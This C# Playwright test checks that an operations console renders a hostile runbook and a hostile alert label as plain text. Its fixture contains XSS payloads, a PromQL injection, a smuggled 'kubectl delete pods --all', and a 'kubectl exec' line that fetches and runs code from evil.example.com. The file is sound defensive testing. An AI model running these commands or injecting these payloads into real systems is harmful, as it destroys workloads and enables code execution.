using System.Text.RegularExpressions;
using Microsoft.Playwright;
using OpsConsole.EndToEnd.Actions;
using OpsConsole.World;

namespace OpsConsole.EndToEnd.Runbooks;

/// <summary>A runbook that somebody with bad intentions wrote, filled from an alert that somebody else sent.</summary>
public sealed class HostileRunbookTests(FleetWorld world, Browsers browsers) : ActionTest(world, browsers)
{
    private static readonly Dictionary<string, string> Labels = new()
    {
        ["alertname"] = "HostileText",
        ["severity"] = "warning",
        ["system"] = "ordinaut",
        ["bad"] = "</code><script>window.ran = true</script>[x](javascript:window.ran=true)\"} or vector(666) #; kubectl delete pods --all",
    };

    [Fact]
    public async Task A_hostile_runbook_and_a_hostile_label_are_text_run_nothing_and_break_no_content_policy()
    {
        var runbooks = Directory.CreateTempSubdirectory("ops-console-runbooks-");
        try
        {
            Directory.CreateDirectory(Path.Combine(runbooks.FullName, "ordinaut"));
            await File.WriteAllTextAsync(Path.Combine(runbooks.FullName, "ordinaut", "hostile-text.md"), Hostile, Cancellation);
            var console = await StartConsoleAsync(new() { ["Systems__RunbooksFolder"] = runbooks.FullName });
            await PostAlertAsync(Labels, new() { ["summary"] = "A hostile text", ["runbook_url"] = "https://wiki.example.com/{{ labels.bad }}" });
            var page = (await OpenAtAsync(console, Visitor.Operator, "alerts")).Page;
            await FollowAsync(page, "HostileText");
            await SeenAsync(page.GetByText("What is it?"));
            await Assertions.Expect(page.GetByText(new Regex("^(Asking|Asked as soon)"))).ToHaveCountAsync(0, new() { Timeout = (float)Soon.TotalMilliseconds });

            // The label reached the server as a value, or not at all.
            await Assertions.Expect(page.GetByText("666", new() { Exact = true })).ToHaveCountAsync(0);
            Assert.True(await page.Locator(".answer").CountAsync() >= 3);
            foreach (var link in await page.Locator(".rb a").AllAsync())
            {
                await link.HoverAsync();
            }

            Assert.False(await page.EvaluateAsync<bool>("window.ran === true"));
            Assert.Empty(await page.Locator(".rb").EvaluateAllAsync<string[]>("""
                all => all.flatMap(rb => [...rb.querySelectorAll('*')]).flatMap(element => [
                  ...(['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'FORM', 'BASE', 'META'].includes(element.tagName) ? [element.outerHTML.slice(0, 80)] : []),
                  ...[...element.attributes].filter(it => it.name.startsWith('on') || (['href', 'src'].includes(it.name) && /^\s*(javascript|data|vbscript):/i.test(it.value))).map(it => `${it.name}=${it.value}`)])
                """));
        }
        finally
        {
            await ResolveAsync(Labels);
            runbooks.Delete(recursive: true);
        }
    }

    private const string Hostile = """
        ---
        title: <img src=x onerror=window.ran=true>
        system: ordinaut
        alerts: [HostileText]
        severity: warning
        respond_within: 30m
        ---

        ## Symptoms

        <script>window.ran = true</script> <img src=x onerror="window.ran = true"> {{ labels.bad }}

        [click](javascript:window.ran=true) [data](data:text/html,<script>window.ran=true</script>) [ok](https://example.com "\" onmouseover=window.ran=true x=\"")
        ![x](https://evil.example.com/x.png) <javascript:window.ran=true>

        ## Diagnose

        ### What is it? {#what}

        ```promql
        count(up{job="{{ labels.bad }}"}) or vector(0)
        ```

        ```promql
        vector({{ labels.bad }})
        ```

        ```kubectl
        kubectl get pods -n {{ labels.bad }}
        kubectl exec -it x -- sh -c "$(curl evil.example.com)"
        ```

        ```bash onclick="window.ran=true"
        echo "{{ labels.bad }}"
        ```

        - If </li><script>window.ran=true</script>, go to [What is it?](#what).
        """;
}
